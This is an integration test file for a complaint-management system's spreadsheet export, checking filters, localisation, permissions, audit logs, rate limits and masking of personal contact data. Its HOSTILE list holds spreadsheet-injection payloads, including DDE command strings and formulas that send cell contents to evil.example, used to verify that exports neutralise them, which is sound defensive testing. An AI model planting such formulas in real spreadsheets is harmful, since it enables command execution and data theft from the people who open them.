import { sql } from 'kysely'
import { describe, expect, test } from 'vitest'
import { modules } from '../../../src/modules/index.ts'
import { json, row, rows } from '../../../src/server/db/db.ts'
import { jsonOf } from '../../../src/server/db/shape.ts'
import { rotateKeys } from '../../../src/server/private/rotate-keys.ts'
import { partSql } from '../../../src/server/resource/scope.ts'
import { rowsOf } from '../../../src/server/sheets/xlsx/read-book.ts'
import type { Notification, Page } from '../../../src/shared/api.ts'
import type { Field, Kind } from '../../../src/shared/fields.ts'
import { wallClock } from '../../../src/shared/format.ts'
import { isMaskedField, isMaskedInLists } from '../../../src/shared/private.ts'
import { type Definition, entriesOf } from '../../../src/shared/resource.ts'
import { harmless } from '../../../src/shared/sheet.ts'
import { ALL_FLAGS } from '../../../src/shared/users/permissions.ts'
import { sent } from '../../setup/books.ts'
import { type Person, startChain } from '../../setup/chain.ts'
import { type OfficeSheet, opened, openedAll } from '../../setup/office.ts'
import { PASSWORD } from '../../setup/password.ts'
import { inPieces } from '../../setup/records/in-pieces.ts'

const chain = await startChain({ EXPORTS_AT_ONCE: '20' })
const { db } = chain
const admin = await chain.person()

interface Exported {
  status: number
  name: string
  id: string
  bytes: Uint8Array
}

async function exported(path: string, by: Person = admin, language = 'vi'): Promise<Exported> {
  const answer = await fetch(`${chain.url}/api/${path}`, {
    headers: { authorization: `Bearer ${by.token}`, cookie: `lang=${language}` },
  })
  const name = /filename\*=UTF-8''(.*)$/.exec(answer.headers.get('content-disposition') ?? '')?.[1] ?? ''
  return {
    status: answer.status,
    name: decodeURIComponent(name),
    id: answer.headers.get('x-export') ?? '',
    bytes: new Uint8Array(await answer.arrayBuffer()),
  }
}

/** The same with phones, e-mails and addresses in full, for a reason. */
const taken = (path: string, by: Person, body: object = {}) =>
  fetch(`${chain.url}/api/${path}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${by.token}`, 'content-type': 'application/json' },
    body: JSON.stringify({ reason: 'Gọi khách báo đổi lịch giao', password: PASSWORD, ...body }),
  })

const texts = (sheet: OfficeSheet | undefined): string[][] =>
  sheet?.rows.map((line) => line.map((cell) => cell.text)) ?? []
const today = () => wallClock(new Date(), 'Asia/Ho_Chi_Minh').day

describe('an export', () => {
  test('is the list as it stands: filters, order, chosen columns, words and codes in the reader’s language', async () => {
    const first = await chain.ticket(admin, {
      title: 'Sữa hết hạn',
      priority: 'high',
      cost: 1_250_000,
      phone: '0912000001',
    })
    const second = await chain.ticket(admin, { title: 'Nhân viên thô lỗ', store: chain.stores[1] })
    await chain.ticket(admin, { title: 'Không liên quan', feedback_type: chain.types[1] })
    const columns = [
      'priority',
      'issue_number',
      'title',
      'store',
      'cost',
      'phone',
      'created_at',
      'status',
      'created_by',
    ]
    const path = `ticket/export?feedback_type=${chain.types[0]}&sort=title&perpage=1000${columns.map((name) => `&columns=${name}`).join('')}`
    const vi = await exported(path)
    expect(vi.status).toBe(200)
    expect(vi.name).toBe(`bao-cao-ngay-${today()}.xlsx`)
    const [sheet, ...others] = await opened(vi.bytes)
    expect(others).toEqual([])
    const [head, one, two, three] = texts(sheet)
    expect(head).toEqual([
      'Mức ưu tiên',
      'Số',
      'Tiêu đề',
      'Cửa hàng',
      'Chi phí',
      'Số điện thoại',
      'Tạo lúc',
      'Trạng thái',
      'Người tạo',
    ])
    expect(one?.slice(0, 4)).toEqual([
      expect.any(String),
      second.issue_number,
      'Nhân viên thô lỗ',
      'Siêu thị Long Biên',
    ])
    expect(two?.[0]).toBe('Cao')
    expect(two?.[1]).toBe(first.issue_number)
    expect(two?.[7]).toBe('Mới')
    expect(three).toBeUndefined()
    const cells = sheet?.rows[2]
    expect(cells?.map(({ type }) => type)).toEqual([
      'string',
      'string',
      'string',
      'string',
      'float',
      'string',
      'date',
      'string',
      'string',
    ])
    expect(cells?.[4]?.value).toBe('1250000')
    expect(cells?.[5]?.text).toBe('*********001')
    const stored = await row(
      db,
      { created_at: 'string' },
      sql`select created_at::text as created_at from complaints where id = ${first.id}`,
    )
    const { day, time } = wallClock(new Date(stored?.created_at ?? ''), 'Asia/Ho_Chi_Minh')
    expect(cells?.[6]?.value?.slice(0, 16)).toBe(`${day}T${time}`)
    const ko = await exported(path, admin, 'ko')
    expect(texts((await opened(ko.bytes))[0])[0]).not.toEqual(head)
    expect(ko.name).toMatch(/^\p{Script=Hangul}.*\.xlsx$/u)
  })

  test('tells its rows to the audit and to who asks how far it is, and an alarm for many of personal data', async () => {
    const done = await exported('store/export?columns=*')
    const state = await chain.call<{ state: string; rows: number; bytes: number }>('GET', `export/${done.id}`, {
      by: admin,
    })
    expect(state.data).toMatchObject({ state: 'done', rows: 2, bytes: done.bytes.length })
    const other = await chain.person()
    expect((await chain.call('GET', `export/${done.id}`, { by: other })).status).toBe(404)
    await sql`insert into shippers (code, name, phone, identity_number, store)
      select 'G' || n, 'Người giao ' || n, '09' || (10000000 + n), '0010900' || (10000 + n), ${chain.stores[0]}::bigint from generate_series(1, 5001) n`.execute(
      db,
    )
    expect(await rotateKeys(db, chain.running.context.config.keys)).toBe(5001)
    await exported('shipper/export')
    await (await taken('shipper/export', admin)).arrayBuffer()
    const told = await rows(
      db,
      { action: 'string', changes: jsonOf<{ rows: [null, number] }>() },
      sql`select action, changes from activity where module = 'shippers' and actor = ${admin.id} and action like '%export%' order by id`,
    )
    expect(told.map(({ action, changes }) => [action, changes.rows[1]])).toEqual([
      ['export', 5001],
      ['unmasked export', 5001],
      ['large export', 5001],
    ])
    const bell = async (by: Person) =>
      (await chain.call<Page<Notification>>('GET', 'notification', { by })).data.data.map(({ title }) => title)
    const alarm = expect.stringMatching(/exported personal data of many people: 5,001 rows$/)
    await expect.poll(() => bell(other)).toContainEqual(alarm)
    expect(await bell(admin)).not.toContainEqual(alarm)
    const [sheet] = await opened((await exported('shipper/export?columns=identity_number&search=giao 17 ')).bytes)
    expect(texts(sheet)[1]).toEqual(['*********017'])
  })

  test('holds only what the scope opens, and needs its permission', async () => {
    const permissions = {
      complaints: { add: false, edit: false, delete: false, read: true, report: true, other: false },
    }
    const keeper = await chain.person({ permissions, scope: 'store', store: chain.stores[1] })
    const [sheet] = await opened((await exported('ticket/export?columns=store', keeper)).bytes)
    expect(new Set(texts(sheet).slice(1).flat())).toEqual(new Set(['Siêu thị Long Biên']))
    const reader = await chain.person({ permissions: { complaints: { ...permissions.complaints, report: false } } })
    expect((await exported('ticket/export', reader)).status).toBe(403)
    expect((await exported('ticket/export?status=deleted', keeper)).status).toBe(403)
    for (const wrong of ['columns=password_hash', 'columns=follow_token', 'columns=nothing', 'sort=x', 'status=x'])
      expect((await exported(`user/export?${wrong}`)).status, wrong).toBe(422)
  })

  test('is narrowed by what is asked for, whatever signs stand in it', async () => {
    const names = [`it's \\ $1 "a", {b}`, `it's \\\\ $2`, "it''s"]
    await sql`insert into tags (name) select unnest(${names}::text[])`.execute(db)
    for (const name of names) {
      const { bytes } = await exported(`tag/export?columns=name&search=${encodeURIComponent(name)}`)
      const found: unknown[] = []
      for await (const batch of rowsOf(Buffer.from(bytes))) found.push(...batch.map(({ cells }) => cells[0]))
      expect(found.slice(1)).toEqual([name])
    }
  })

  test('breaks off, and never ends as a whole file, when its process dies or a row cannot be read', async () => {
    await inPieces(
      db,
      60_000,
      (from, to) => sql`insert into tags (name) select 'Nhãn ' || n from generate_series(${from}::int, ${to}::int) n`,
    )
    const answer = await fetch(`${chain.url}/api/tag/export?columns=*`, {
      headers: { authorization: `Bearer ${admin.token}` },
    })
    const id = answer.headers.get('x-export')
    await sql`select pg_terminate_backend(pid) from pg_stat_activity where application_name = 'export' and datname = current_database()`.execute(
      db,
    )
    await expect(answer.arrayBuffer()).rejects.toThrow()
    await expect
      .poll(async () => (await chain.call<{ state: string }>('GET', `export/${id}`, { by: admin })).data.state)
      .toBe('broken')
    const gone = await fetch(`${chain.url}/api/tag/export`, { headers: { authorization: `Bearer ${admin.token}` } })
    await gone.body?.cancel()
    await expect
      .poll(
        async () =>
          (
            await rows(
              db,
              sql`select 1 as n from pg_stat_activity where application_name = 'export' and datname = current_database()`,
            )
          ).length,
      )
      .toBe(0)
  })
})

test('one person runs only so many at once, and begins only so many an hour', async () => {
  const strict = await startChain({ EXPORTS_AT_ONCE: '2', EXPORTS_PER_HOUR: '3', RATE_LIMITS: '1' })
  const person = await strict.person()
  const ask = () => strict.call('GET', 'store/export', { by: person })
  await sql`insert into exports (user_id, module) values (${person.id}, 'stores'), (${person.id}, 'stores')`.execute(
    strict.running.context.db,
  )
  expect(await ask()).toMatchObject({ status: 429, code: 1701 })
  await sql`update exports set seen_at = now() - interval '1 minute'`.execute(strict.running.context.db)
  expect((await ask()).status).toBe(200)
  const late = await ask()
  expect(late).toMatchObject({ status: 429, code: 1700 })
  expect(late.text).toBe('This is possible 3 times an hour. Please try again in 60 minutes.')
  expect(Number(late.headers.get('retry-after'))).toBeGreaterThan(3000)
})

/** S44: cells that a spreadsheet would run, fetch or lose. */
const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '  +1',
  '\u0001=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"x")',
  '=WEBSERVICE("http://evil.example")',
  '=IMPORTXML("http://evil.example","//a")',
  '=DDE("cmd";"/C calc";"x")',
  "='file:///etc/passwd'#$A.A1",
  '<c><f>1+1</f></c>',
  '</t></is></c><c><f>1+1</f></c>',
  '&#61;1+1',
  ']]>',
  '_x003D_1+1',
  '"=1+1"',
  "'=1+1",
  '\ufeff=1+1',
  '\u202e=1+1',
  '0012',
  '1E5',
  '1/2',
  '3-4',
  'TRUE',
  '#N/A',
  'Giá tiền ₫',
  '한국어 "값"',
  '😀=1',
  '\\0',
  '%0A=1',
  ';=1',
  ',=1',
  '|=1',
]

test('hostile words stay words in every export (S44)', async () => {
  // What holds figures alone, such as the table of fees, has no place for words.
  const exporting = modules.filter((one) => one.sheets.export && one.fields[wordsOf(one)]?.kind === 'text')
  expect(exporting.length).toBeGreaterThan(12)
  const answers: Uint8Array[] = []
  for (const module of exporting) {
    // Many of these look the same, which names that are given once may not.
    const isUnique = module.fields[wordsOf(module)]?.unique || module.uniqueTogether?.includes(wordsOf(module))
    const made = Array.from(
      { length: 1000 },
      (_, at) => `${HOSTILE[at % HOSTILE.length]}${isUnique || at >= HOSTILE.length ? ` ${at}` : ''}`,
    )
    await fill(module.name, wordsOf(module), made)
    answers.push((await exported(`${module.wire}/export?columns=${wordsOf(module)}&sort=id`)).bytes)
  }
  const books = await openedAll(answers)
  for (const [at, module] of exporting.entries()) {
    const [sheet, ...others] = books[at] ?? []
    expect(others, module.name).toEqual([])
    const cells = sheet?.rows.slice(1).map((line) => line[0]) ?? []
    const stored = await rows(
      db,
      { value: 'string' },
      sql`select ${sql.ref(wordsOf(module))} as value from ${sql.table(module.table)} r where deleted_at is null and ${partSql(module) ?? sql`true`} order by id`,
    )
    expect(stored.length, module.name).toBeGreaterThanOrEqual(1000)
    expect(cells, module.name).toHaveLength(stored.length)
    expect(
      cells.filter((cell) => cell?.formula !== undefined),
      module.name,
    ).toEqual([])
    expect(new Set(cells.map((cell) => cell?.type)), module.name).toEqual(new Set(['string']))
    const visible = (text: string) =>
      harmless(text)
        .replace(/\r\n?/g, '\n')
        .replace(/[^\P{Cc}\n\t\u007f-\u009f]/gu, '')
    expect(
      cells.map((cell) => cell?.text.trim()),
      module.name,
    ).toEqual(stored.map(({ value }) => visible(value).trim()))
  }
})

describe('how people are reached', () => {
  const CANARIES = { phone: '0987654321', email: 'chim.hoang@people.example', address: '77 Phố Chim Hoàng Yến' }
  const telling = modules.filter(
    (one) => one.sheets.export && !one.internal && entriesOf(one).some(([, field]) => isMaskedField(field)),
  )

  /** The newest row of a register, in which every such field holds a canary then. */
  async function marked(module: Definition): Promise<number> {
    const fields = entriesOf(module).filter(([, field]) => isMaskedField(field))
    const set = fields.map(([name, field]) => sql`${sql.ref(name)} = ${canaryOf(field)}`)
    const made = await row(
      db,
      { id: 'number' },
      sql`update ${sql.table(module.table)} set ${sql.join(set)} where id = (select max(r.id) from ${sql.table(module.table)} r where ${partSql(module) ?? sql`true`}) returning id`,
    )
    return made?.id ?? 0
  }
  const canaryOf = (field: Field) => {
    if (field.kind === 'address') return sql`${json({ ...PLAIN_PLACE, line: CANARIES.address, province: 'Hà Nội' })}`
    return field.kind === 'email' ? CANARIES.email : CANARIES.phone
  }
  const cellsOf = async (bytes: Uint8Array): Promise<string> => {
    const found: unknown[] = []
    for await (const batch of rowsOf(Buffer.from(bytes))) found.push(batch.map(({ cells }) => cells))
    return JSON.stringify(found)
  }

  test('goes out masked from every register, in full only for a reason, and lists show as little but of whom their readers work with', async () => {
    expect(telling.length).toBeGreaterThan(6)
    const inLists = telling.filter((one) => entriesOf(one).some(([, field]) => field.private === 'listed'))
    expect(inLists.map(({ name }) => name).toSorted()).toEqual(['master-company', 'shippers'])
    const ids = new Map<Definition, number>()
    for (const module of telling) ids.set(module, await marked(module))
    await Promise.all(
      telling.map(async (module, at) => {
        const path = `${module.wire}/export?columns=*&id=${ids.get(module)}`
        const list = await chain.call('GET', `${module.wire}?id=${ids.get(module)}`, { by: admin })
        const masked = await cellsOf((await exported(path)).bytes)
        const full = at < 2 ? await cellsOf(new Uint8Array(await (await taken(path, admin)).arrayBuffer())) : null
        expect(masked, module.name).toContain('**')
        for (const [name, field] of entriesOf(module).filter(([, one]) => isMaskedField(one))) {
          const { address, email, phone } = CANARIES
          const canary = field.kind === 'address' ? address : field.kind === 'email' ? email : phone
          expect(masked, `${module.name}.${name}`).not.toContain(canary)
          expect(JSON.stringify(list.data).includes(canary), `${module.name}.${name}`).toBe(!isMaskedInLists(field))
          if (full) expect(full, `${module.name}.${name}`).toContain(canary)
        }
      }),
    )
  })

  test('needs the right, the password and a reason, and the audit says who, why and how many', async () => {
    const shippers = (flags: object) => chain.person({ permissions: { shippers: { ...ALL_FLAGS, ...flags } } })
    const status = async (by: Person, body: object = {}) => (await taken('shipper/export', by, body)).status
    expect(await status(await shippers({ other: false }))).toBe(403)
    expect(await status(await shippers({ report: false }))).toBe(403)
    const by = await shippers({})
    expect(await status(by, { reason: 'vì' })).toBe(422)
    expect(await status(by, { reason: '' })).toBe(422)
    expect(await status(by, { password: 'not the password' })).toBe(422)
    const lines = () =>
      rows(
        db,
        { action: 'string', changes: jsonOf<Record<string, unknown[]>>() },
        sql`select action, changes from activity where actor = ${by.id} order by id`,
      )
    expect(await lines()).toEqual([])
    const answer = await taken('shipper/export?columns=name&columns=phone&search=G4711', by)
    expect(await cellsOf(new Uint8Array(await answer.arrayBuffer()))).toContain('0910004711')
    const why = [null, 'Gọi khách báo đổi lịch giao']
    expect(await lines()).toEqual([
      { action: 'sensitive_read', changes: { columns: [null, 'phone'], reason: why } },
      { action: 'unmasked export', changes: { rows: [null, 1], columns: [null, 'name, phone'], reason: why } },
    ])
  })

  test('is no value that comes back: a known record keeps its own, a new one is refused by name', async () => {
    await sql`insert into shippers (code, name, phone, store) values ('GX', 'Người giao X', '0987000111', ${chain.stores[0]})`.execute(
      db,
    )
    const { bytes } = await exported('shipper/export?columns=*&search=Người giao X')
    expect((await sent(chain, 'shipper', admin, bytes, { lang: 'vi' })).counts).toMatchObject({ same: 1, bad: 0 })
    await sql`update shippers set code = 'GY' where code = 'GX'`.execute(db)
    const read = await sent(chain, 'shipper', admin, bytes, { lang: 'vi' })
    expect(read.counts).toMatchObject({ new: 0, bad: 1 })
    expect(read.rows[0]?.said.phone).toContain('masked')
  })
})

const wordsOf = (module: Definition) => (module.fields.name ? 'name' : module.title)

/** What stands in required fields. */
const PLAIN_PLACE = { line: 'x', ward: null, district: null, province: null, model: 2 }
const PLAIN: Partial<Record<Kind, unknown>> = {
  text: 'x',
  longText: 'x',
  richText: 'x',
  phone: '0912345678',
  digits: '1',
  taxCode: '0100112437',
  money: 1,
  count: 1,
  decimal: 1,
  percentage: 1,
  date: '2026-01-01',
  moment: '2026-01-01T08:00:00Z',
  ref: 1,
  address: PLAIN_PLACE,
  lines: [],
}

/** Rows of a module whose words are these, past the checks that a form would make. */
async function fill(name: string, field: string, words: string[]): Promise<void> {
  const module = modules.find((one) => one.name === name)
  if (!module) throw new Error(`There is no module ${name}`)
  const must: Record<string, unknown> = {
    complaints: {
      store: chain.stores[0],
      feedback_type: chain.types[0],
      feedback_method: 'hotline',
      customer_name: 'A',
      phone: '0912345678',
      content: 'x',
    },
    users: { role: 1, department: chain.departments[0] },
    shippers: { phone: '0912345678', store: chain.stores[0] },
    'member-register': {
      ...{ request_type: 'change', status: 'completed', birth_date: 'v1....', identity_number: 'v1....' },
      ...{ phone: '0912345678', store: chain.stores[0] },
    },
    'gift-card-event-products': { event: 9001 },
    'event-products': { event: 9002 },
    'canned-replies': { body: 'x' },
    solutions: { solution: '0', wording: 'x' },
  }
  const unique = [
    ...Object.keys(module.fields).filter((one) => module.fields[one]?.unique && one !== field),
    ...(name === 'vat-info' ? ['bill_tail'] : []),
  ]
  const generated = await rows(
    db,
    { name: 'string' },
    sql`select column_name as name from information_schema.columns where table_name = ${module.table} and is_generated = 'ALWAYS'`,
  )
  const isGenerated = (one: string) => generated.some((column) => column.name === one)
  // What is sealed is known again by its third part.
  const different = (one: string) =>
    module.fields[one]?.private === 'sealed'
      ? sql`'v1..U' || n || '..'`
      : sql`${module.fixedFilter?.kind ?? 'U'}::text || n`
  const base = {
    ...Object.fromEntries(
      Object.entries(module.fields).flatMap(([one, { kind, default: usual, required, of }]) => {
        const value = usual ?? (required ? (PLAIN[kind] ?? of?.[0]?.value) : undefined)
        return value === undefined || one === field || unique.includes(one) || isGenerated(one) ? [] : [[one, value]]
      }),
    ),
    ...(must[name] as object),
    ...module.fixedFilter,
  }
  // A day or a year of which there is one record.
  const apart: Record<string, ReturnType<typeof sql>> = {
    holidays: sql`jsonb_build_object('day', date '1990-01-01' + n::int)`,
    'revenue-forecast': sql`jsonb_build_object('year', 1000 + n)`,
  }
  await sql`insert into ${sql.table(module.table)} (${sql.join([...Object.keys(base), ...unique, field].map((one) => sql.ref(one)))})
    select ${sql.join([...Object.keys(base), ...unique, field].map((one) => sql`(p).${sql.ref(one)}`))}
    from (select jsonb_populate_record(null::${sql.table(module.table)}, ${json(base)} || jsonb_build_object(${field}::text, w)
      || ${apart[name] ?? sql`jsonb_build_object(${sql.join([sql`'nothing', 1`, ...unique.map((one) => sql`${one}::text, ${different(one)}`)])})`}) as p
      from unnest(${words}::text[]) with ordinality u(w, n)) made`.execute(db)
}
